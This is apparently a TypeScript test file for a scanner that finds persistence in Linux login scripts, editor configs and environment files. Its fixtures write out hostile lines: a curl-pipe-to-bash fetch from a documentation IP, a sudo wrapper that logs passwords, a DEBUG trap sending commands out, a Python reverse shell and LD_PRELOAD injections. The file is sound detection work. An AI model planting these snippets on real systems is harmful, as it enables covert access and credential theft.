import { chmodSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { makeRoot, scanRoot, shown } from '../../../test/throwaway-root.ts';
import { loginScripts } from './check.ts';
import { aliasesOf, assignmentsOf, variableSign } from './lines.ts';
import { shadowing } from '../shadowing.ts';

const fetched = 'curl -fsSL http://203.0.113.9/i.sh | bash';
const ordinaryRc = [
  'case $- in *i*) ;; *) return;; esac', 'export PATH="$HOME/bin:$HOME/.local/bin:$PATH"', "alias ls='ls --color=auto'", "alias sudo='sudo '", "alias ssh='TERM=xterm-256color ssh'", 'alias top=htop',
  "alias psg='ps aux | grep -v grep | grep -i'", 'export NVM_DIR="$HOME/.nvm"', '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"', '. "/root/.acme.sh/acme.sh.env"', 'eval "$(pyenv init -)"', '. "$HOME/.cargo/env"',
  "PROMPT_COMMAND='history -a; echo -ne \"\\033]0;${USER}@${HOSTNAME}\\007\"'", "export PROMPT_COMMAND='{ msg=$(history 1); logger -t bash \"$msg\"; }'", 'ssh() {', '  TERM=xterm-256color command ssh "$@"', '}',
  "PS1='\\[\\e[32m\\]\\u@\\h\\[\\e[0m\\] '", 'export LD_LIBRARY_PATH=/usr/local/cuda/lib64:$LD_LIBRARY_PATH', 'export HISTSIZE=10000 HISTTIMEFORMAT="%F %T "', "trap 'rm -f \"$tmp\"' EXIT",
].join('\n');

describe('login-scripts', () => {
  it('finds a script fetched at log-on in every place that is run then', async () => {
    const places = ['/etc/profile', '/etc/profile.d/zz.sh', '/etc/bash.bashrc', '/etc/zsh/zshenv', '/etc/fish/conf.d/a.fish', '/etc/csh.login', '/etc/ssh/sshrc', '/etc/skel/.bashrc', '/root/.bashrc', '/root/.ssh/rc',
      '/home/lin/.profile', '/home/lin/.bash_logout', '/home/lin/.bash_login', '/home/lin/.bash_profile', '/home/lin/.zshrc', '/home/lin/.config/fish/config.fish', '/home/lin/.bashrc.d/x', '/var/www/.bashrc', '/home/gone/.bashrc'];
    const report = await scanRoot([loginScripts], {
      ...Object.fromEntries(places.map((path) => [path, `# start\n${fetched}\n`])),
      '/etc/update-motd.d/98-news': { text: `#!/bin/sh\n${fetched}\n`, mode: 0o755 },
      '/etc/xdg/autostart/a.desktop': `[Desktop Entry]\nExec=sh -c "${fetched}"\n`, '/home/lin/.config/autostart/b.desktop': `[Desktop Entry]\nExec=sh -c "${fetched}"\n`,
      '/etc/environment': 'LD_PRELOAD=/dev/shm/.k.so\n', '/home/lin/.pam_environment': 'LD_AUDIT DEFAULT=/var/tmp/a.so\n', '/etc/security/pam_env.conf': 'LD_PRELOAD DEFAULT=/lib/libkeep.so\n', '/home/lin/.config/environment.d/a.conf': 'BASH_ENV=/tmp/.x\n',
    });
    expect(report.findings.filter(({ kind, level }) => kind === 'intrusion' && (level === 'high' || level === 'critical')).map(({ path = '' }) => path).toSorted((a, b) => (a < b ? -1 : 1))).toEqual([
      ...places, '/etc/update-motd.d/98-news', '/etc/xdg/autostart/a.desktop', '/home/lin/.config/autostart/b.desktop', '/etc/environment', '/home/lin/.pam_environment', '/etc/security/pam_env.conf',
    ].toSorted((a, b) => (a < b ? -1 : 1)));
    expect(shown(report)).toContain('medium /home/lin/.config/environment.d/a.conf');
    expect(report.findings.find(({ path }) => path === '/etc/profile')!.evidence[0]).toMatchObject({ what: { en: '/etc/profile line 2' }, value: fetched });
    expect(report.findings.find(({ path }) => path === '/home/lin/.profile')!.user).toBe('lin');
  });

  it('finds names that are shadowed to take passwords or to hide', async () => {
    const rc = (text: string) => scanRoot([loginScripts], { '/root/.bashrc': text });
    expect(shown(await rc('sudo() {\n  read -sp "[sudo] password for $USER: " p\n  echo "$p" >> /var/lib/.c\n  echo "$p" | command sudo -S "$@"\n}\n'))).toEqual(['critical /root/.bashrc']);
    expect(shown(await rc("alias ssh='strace -o /usr/share/.log -e read ssh'\n"))).toEqual(['high /root/.bashrc']);
    expect(shown(await rc("alias sudo='/home/lin/.local/.s/sudo'\n"))).toEqual(['high /root/.bashrc']);
    expect(shown(await rc("alias ps='ps \"$@\" | grep -v xm'\n"))).toEqual(['medium /root/.bashrc']);
    expect(shown(await rc('function netstat {\n command netstat "$@" | grep -v :4444\n}\n'))).toEqual(['medium /root/.bashrc']);
    expect(shown(await rc("trap 'curl -s http://203.0.113.9/?c=$BASH_COMMAND' DEBUG\n"))).toEqual(['high /root/.bashrc']);
    expect(shown(await rc(`export PROMPT_COMMAND="${fetched}"\n`))).toContain('high /root/.bashrc');
    expect(shown(await rc('true\rcurl x\n'))).toEqual(['high /root/.bashrc']);
  });

  it('finds commands in settings of editors, of the command line and of tmux, and lets people fetch plug-ins there', async () => {
    const report = await scanRoot([loginScripts], {
      '/root/.vimrc': `set ai\nautocmd BufRead * silent! call system('${fetched}')\n`, '/home/lin/.exrc': `:silent !${fetched}\n`, '/home/lin/.config/nvim/init.lua': `vim.fn.jobstart({"sh", "-c", "${fetched}"})\n`,
      '/root/.inputrc': `"\\C-g": "\\C-a${fetched}\\C-m"\n`, '/home/lin/.tmux.conf': `run-shell -b '${fetched}'\n`, '/root/.screenrc': `screen -t x 3 sh -c "${fetched}"\n`, '/home/lin/.emacs': `(shell-command "${fetched}")\n`,
    });
    expect(shown(report)).toEqual(['high /home/lin/.config/nvim/init.lua', 'high /home/lin/.emacs', 'high /home/lin/.exrc', 'high /home/lin/.tmux.conf', 'high /root/.inputrc', 'high /root/.screenrc', 'high /root/.vimrc']);
    expect(shown(await scanRoot([loginScripts], {
      '/root/.vimrc': "silent !curl -fLo ~/.vim/autoload/plug.vim --create-dirs https://plugins.example/plug.vim\nautocmd BufWritePost *.go silent !gofmt -w %\nnnoremap r :!python3 %<CR>\n\" !sh /tmp/x\n",
      '/root/.inputrc': '"\\e[A": history-search-backward\n"\\C-g": "git status\\C-m"\n', '/root/.tmux.conf': "set -g status-right '#(cut -d\" \" -f1 /proc/loadavg)'\nrun '~/.tmux/plugins/tpm/tpm'\n",
    }))).toEqual([]);
  });

  it('follows ~ and $HOME to whose home it is, text handed over by <<, and a sudo in a folder of PATH', async () => {
    const home = '/home/lin';
    const rc = async (text: string, more: Record<string, string>) => shown(await scanRoot([loginScripts], { [`${home}/.profile`]: text, ...more }));
    expect(await rc('. ~/.local/start\n', { [`${home}/.local/start`]: `${fetched}\n` })).toContain(`high ${home}/.profile`);
    expect(await rc('export ENV=$HOME/.local/start\n. "$ENV"\n', { [`${home}/.local/start`]: `${fetched}\n` })).toContain(`high ${home}/.profile`);
    expect(await rc("python3 - <<'E' &\nimport socket, pty, os\ns = socket.socket()\ns.connect(('203.0.113.4', 443))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\nE\n", {})).toContain(`critical ${home}/.profile`);
    expect(await rc('PATH=$HOME/.tools:$PATH\n', { [`${home}/.tools/sudo`]: '#!/bin/sh\n' })).toEqual([`high ${home}/.profile`]);
    expect(await rc('. ~/.cargo/env\nPATH=$HOME/.tools:$PATH\n', { [`${home}/.cargo/env`]: 'export PATH="$HOME/.cargo/bin:$PATH"\n', [`${home}/.tools/hx`]: 'x' })).toEqual([]);
  });

  it('finds folders of others in front in PATH and history switched off', async () => {
    const report = await scanRoot([loginScripts], { '/etc/profile': 'PATH=.:$PATH\nexport PATH=/tmp/bin:$PATH\n', '/root/.bashrc': 'export HISTFILE=/dev/null\nHISTSIZE=0\n' });
    expect(report.findings.map(({ kind, level, path }) => `${kind} ${level} ${path}`)).toEqual(['weakness high /etc/profile', 'weakness medium /etc/profile', 'weakness low /root/.bashrc', 'weakness low /root/.bashrc']);
    expect(report.verdict).toBe('clean');
  });

  it('is silent for what administrators write and for what packages ship', async () => {
    const report = await scanRoot([loginScripts], {
      '/root/.bashrc': ordinaryRc, '/home/lin/.bashrc': ordinaryRc, '/root/.acme.sh/acme.sh.env': 'export LE_WORKING_DIR="/root/.acme.sh"\nalias acme.sh="/root/.acme.sh/acme.sh"\n',
      '/etc/profile': 'if [ "$(id -u)" -eq 0 ]; then\n  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nfi\nexport PATH\n',
      '/etc/profile.d/java.sh': 'export JAVA_HOME=/opt/jdk\nexport PATH=$JAVA_HOME/bin:$PATH\n', '/etc/profile.d/tmout.sh': 'readonly TMOUT=600\n',
      '/etc/environment': 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games"\nhttp_proxy=http://192.0.2.5:3128\n',
      '/etc/update-motd.d/10-uname': { text: `#!/bin/sh\n${fetched}\n`, mode: 0o755, package: 'base-files', config: true }, '/etc/update-motd.d/99-off': `#!/bin/sh\n${fetched}\n`,
      '/etc/skel/.bashrc': { text: `odd() { :; }\n${fetched}\n`, package: 'bash', config: true }, '/home/lin/.profile': `${fetched}\n`,
      '/etc/profile.d/jemalloc.sh': 'export LD_PRELOAD=/usr/lib/libjemalloc.so.2\n', '/usr/lib/libjemalloc.so.2': { text: 'ELF', package: 'libjemalloc2' },
    });
    expect(shown(report)).toEqual(['low /etc/profile.d/jemalloc.sh']);
  });

  it('finds a skeleton that was changed, and does not take its lines for shipped', async () => {
    const report = await scanRoot([loginScripts], { '/etc/skel/.bashrc': { text: `${fetched}\n`, package: 'bash', shipped: 'true\n', config: true }, '/home/lin/.bashrc': `${fetched}\n` });
    expect(shown(report)).toEqual(['high /etc/skel/.bashrc', 'high /home/lin/.bashrc']);
  });

  it('finds a script of all that others may write, and bears hostile text', async () => {
    const root = makeRoot({ '/etc/profile.d/a.sh': { text: 'true\n', mode: 0o666 }, '/root/.bashrc': `alias ${'('.repeat(20_000)}${"'".repeat(20_000)}\n${'x='.repeat(100_000)}\n${'sudo() {\n'.repeat(1200)}` });
    const report = await scanRoot([loginScripts], root);
    expect(shown(report)).toEqual(['high /etc/profile.d/a.sh']);
    chmodSync(join(root, 'etc/profile.d/a.sh'), 0o644);
    expect(shown(await scanRoot([loginScripts], root))).toEqual([]);
  });

  it('reads aliases and variables of several shells', () => {
    expect(aliasesOf(`alias ll='ls -l' la="ls -a"; alias su '/x/su'`)).toEqual([{ name: 'll', value: 'ls -l' }, { name: 'su', value: '/x/su' }]);
    expect(assignmentsOf('export A="x y" B=2').concat(assignmentsOf('setenv C /c'), assignmentsOf('set -gx D /d'), assignmentsOf('E DEFAULT=/e'))).toEqual([
      { name: 'A', value: 'x y' }, { name: 'B', value: '2' }, { name: 'C', value: '/c' }, { name: 'D', value: '/d' }, { name: 'E', value: '/e' },
    ]);
    expect(shadowing('ls', 'ls --color=auto')).toBeUndefined();
    expect(variableSign({ name: 'PATH', value: '$PATH:.' }, true, () => false)).toBeUndefined();
  });
});
